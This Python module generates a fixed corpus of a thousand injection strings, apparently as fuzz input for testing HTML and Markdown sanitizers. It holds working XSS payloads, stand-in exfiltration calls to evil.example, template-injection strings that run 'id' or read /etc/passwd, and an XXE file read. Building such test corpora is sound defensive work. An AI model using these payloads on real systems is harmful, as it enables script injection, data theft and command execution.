"""A thousand strings that want to be more than text, the same ones on every machine."""

from __future__ import annotations

import random
from itertools import product

SIZE = 1_000
CANARY = "window.__hit=1"

CALLS = (
    CANARY,
    "top.__hit=1",
    "alert(1)",
    "self['__hit']=1",
    "window.__hit=document.domain",
    "import('//evil.example/x.js')",
    "fetch('https://evil.example/?'+document.title)",
    "confirm`1`",
    "eval(atob('d2luZG93Ll9faGl0PTE='))",
)
OPENINGS = ("", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</svg>", "</template>", "`>")
ELEMENTS = (
    "<img src=x onerror={}>",
    "<img src=x:x onerror={}//",
    "<IMG SRC=x OnErRoR={}>",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><script xlink:href=data:,{}></script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set onbegin={} attributeName=x to=1>",
    "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={}>#x'/></svg>",
    "<svg><a xlink:href='javascript:{}'><text>x</text></a></svg>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<math><maction actiontype='statusline#x' xlink:href='javascript:{}'>x</maction></math>",
    "<math href='javascript:{}'>x</math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror={}></annotation-xml></math>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>",
    "<iframe src='javascript:{}'></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<form action='javascript:{}'><button>x</button></form>",
    "<button formaction='javascript:{}'>x</button>",
    "<a href='javascript:{}'>x</a>",
    "<a href=' &#x6a;avascript&colon;{}'>x</a>",
    "<base href='https://evil.example/{}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href='https://evil.example/{}'>",
    "<style>@import 'https://evil.example/{}';</style>",
    "<div style='background:url(https://evil.example/{})'>",
    "<style onload={}></style>",
    "<script>{}</script>",
    "<script src='data:text/javascript,{}'></script>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><img src=x onerror={}></template>",
    "<x onclick={} onmouseover={} tabindex=1>",
    "<img src='x' onerror='{}'/>",
    '<a title="</a><img src=x onerror={}>">',
)
UNCLOSED = (
    "<!--", "<!-- {}", "--!><img src=x onerror={}>", "<![CDATA[", "]]><script>{}</script>",
    "<?xml version='1.0'?>", "<?php {} ?>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///'>]>",
    "&e;", "&#0;", "&#60;script&#62;{}&#60;/script&#62;", "&lt;img src=x onerror={}&gt;",
    "&amp;lt;b&amp;gt;{}", "&#x3C;svg onload={}&#x3E;", "&NotEqualTilde;{}", "&nosuch; {}",
    "<a", "<a href=", "<script", "<script>", "<style>", "<title>", "<textarea>", "<plaintext>",
    "<xmp>", "<svg>", "<math>", "<table><tr><td>", "</p></div></main></body></html>", "<p", "</",
    "< script>{}</ script>", "<\\/script><script>{}</script>", "\"><script>{}",
    "'\"><svg onload={}",
)  # fmt: skip
BREAKOUTS = (
    "</script><script>{}</script>",
    "</SCRIPT ><script>{}</script>",
    "<!--<script>{}</script>",
    '"}}</script><script>{}</script>',
    '", "@type": "Thing", "x": "{}',
    '\\"}}]}};{}//',
    "\\u003c/script\\u003e{}",
    "\u2028{}\u2029",
    "</style><script>{}</script>",
    "</style><img src=x onerror={}>",
    "</text></svg><script>{}</script>",
    "</tspan></text><script>{}</script>",
    '" onload="{}',
    "' onload='{}",
    '" onmouseover="{}" x="',
    '" href="javascript:{}" x="',
    '" xlink:href="javascript:{}',
    '" style="background:url(javascript:{})',
    '" transform="translate(0)"/><script>{}</script><g x="',
    "x onfocus={} autofocus",
    "BEGIN:VEVENT END:VCALENDAR ATTACH:{}",
    "\\nEND:VEVENT\\nBEGIN:VALARM\\nACTION:PROCEDURE {}",
    ";VALUE=URI:javascript:{}",
)
TEMPLATES = (
    "{{{{ {} }}}}",
    "{{{{ 7 * 7 }}}} {}",
    "{{% raw %}} {} {{% endraw %}}",
    "{{# {} #}}",
    "{{{{ config.__class__.__mro__ }}}} {}",
    "{{% include '/etc/passwd' %}} {}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}} {}",
    "{{{{ cycler.__init__.__globals__.os.popen('id').read() }}}} {}",
    "{{{{ '<script>{}</script>'|safe }}}}",
    "${{{}}}",
    "`${{{}}}`",
    "#{{{}}}",
    "<%= {} %>",
    "<%- {} -%>",
    "%({})s",
    "{{0.__class__}} {}",
    "\\x3cscript\\x3e{}\\x3c/script\\x3e",
    "§{}§ %{}%",
)
MARKDOWN = (
    "<div onclick={}>\n\n*x*\n\n</div>",
    "<script>\n\n{}\n\n</script>",
    "**<b onmouseover={}>**",
    "`<img src=x onerror={}>`",
    "``` {}\n<script>{}</script>\n```",
    "~~~\n</code></pre><script>{}</script>\n~~~",
    "    <script>{}</script>",
    "# <script>{}</script>",
    "> <script>{}</script>",
    "- <script>{}</script>",
    "| a |\n|--:|\n| <script>{}</script> |",
    '<https://example.org/"onmouseover={}>',
    '[x](https://example.org/?a="><script>{}</script>)',
    '[x](https://example.org/ "t\\"onmouseover={}")',
    '[x]{{lang="fr\\" onclick={}"}}',
    "[x]{{lang=fr onclick={}}}",
    "\\<script>{}\\</script>",
    "***{}*** __{}__ ~~{}~~",
    "&#x3c;script&#x3e;{}",
)
LINKS = (
    "[x](javascript:{})",
    "[x](JaVaScRiPt:{})",
    "[x](java&#115;cript:{})",
    "[x](&#x6A;avascript:{})",
    "[x](<java\tscript:{}>)",
    "[x](javascript&colon;{})",
    "[x](\u00a0javascript:{})",
    "[x](vbscript:{})",
    "[x](data:text/html,<script>{}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD57fTwvc2NyaXB0Pg== '{}')",
    "[x](file:///etc/passwd '{}')",
    "[x](//evil.example/{})",
    "[x](blob:{})",
    "<javascript:{}>",
    "<data:text/html,{}>",
    "![x](javascript:{})",
    "![x](https://evil.example/{}.png)",
    "![x](data:image/svg+xml,<svg onload={}>)",
    '![x" onerror="{}](x.png)',
    "[x][y]\n\n[y]: javascript:{}",
    "[x](place:'\"><script>{}</script>)",
    '[@x"><script>{}</script>]',
    "::: script\n{}\n:::",
    '::: map {{view="><script>{}</script>}}',
)
ADDRESSES = (
    "javascript:{}",
    "JAVASCRIPT:{}",
    "java\tscript:{}",
    " javascript:{}",
    "\u200bjavascript:{}",
    "javascript://%0a{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD4= {}",
    "data:image/svg+xml,<svg onload={}>",
    "vbscript:{}",
    "https://evil.example/{}",
    "//evil.example/{}",
    "file:///etc/passwd?{}",
    "ftp://evil.example/{}",
    "www.evil.example/{}",
)
UNSEEN = (
    "\u202e{}\u202c", "\u2066{}\u2069", "\u2067{}", "\u202d{}", "\u200e{}\u200f", "\u061c{}",
    "\u200b{}\u200b", "\u200c{}\u200d", "\ufeff{}", "\u2060{}", "\u00ad{}", "\u034f{}", "\u180e{}",
    "\u3164{}", "\U000e0041{}\U000e007f", "\ufffd{}", "\ufdfa{}", "\u2063{}", "\U0001f468\u200d{}",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "\u02bb\u02ba><svg onload={}>", "e\u0301" * 30 + "{}",
    "Z\u0351\u036b\u0343\u032a\u0302" * 12 + "{}", "\u202e<img src=x onerror={}>\u202c", "\ue000{}",
)  # fmt: skip
SHEETS = (
    "}} body {{ background: url('https://evil.example/{}') }}",
    "@import url(https://evil.example/{});",
    "expression({})",
    "red; background: url(javascript:{})",
    "*/ }} * {{ display: none }} /* {}",
    "\\3c script\\3e {}",
    'url("https://evil.example/{}")',
    "-moz-binding: url(https://evil.example/{}#x)",
    "content: '\\\"><script>{}</script>'",
    "</style><style>@font-face {{ src: url(https://evil.example/{}) }}",
)
FAMILIES = {
    "elements": ELEMENTS,
    "behind an opening": tuple(a + b for a, b in product(OPENINGS[1:], ELEMENTS)),
    "unclosed": UNCLOSED,
    "breakouts": BREAKOUTS,
    "templates": TEMPLATES,
    "markdown": MARKDOWN,
    "links": LINKS,
    "addresses": ADDRESSES,
    "unseen": UNSEEN,
    "sheets": SHEETS,
}


def corpus() -> tuple[str, ...]:
    """A thousand different strings: families in turn, patterns in turn."""
    draw = random.Random(9)
    found: dict[str, None] = dict.fromkeys(_long())
    pools = [_filled(patterns, draw) for patterns in FAMILIES.values()]
    while len(found) < SIZE:
        for pool in pools:
            if pool and len(found) < SIZE:
                found[pool.pop()] = None
    return tuple(found)


def _filled(patterns: tuple[str, ...], draw: random.Random) -> list[str]:
    """Every pattern with every call, so drawn that each pattern comes once before any twice."""
    rounds = [[pattern.format(*[call] * 3) for pattern in patterns] for call in CALLS]
    for one in rounds:
        draw.shuffle(one)
    return [text for one in reversed(rounds) for text in one]


def _long() -> tuple[str, ...]:
    """Long enough to trouble a layout, a regular expression or a recursion."""
    return (
        "<" * 4_000,
        "<b>" * 1_500,
        "[" * 800 + CANARY,
        "(" * 2_000,
        "*" * 1_001 + "x",
        "`" * 999,
        "> " * 120 + "<script>" + CANARY + "</script>",
        "&" * 3_000,
        "&lt;" * 800,
        "{{" * 1_000,
        "x" * 5_000 + f"<img src=x onerror={CANARY}>",
        "\u202e" * 500 + "x",
        "a\u0301\u0302" * 600,
        f'"><svg onload={CANARY}>' * 60,
        "\\" * 999 + '"',
        "'" * 997,
    )
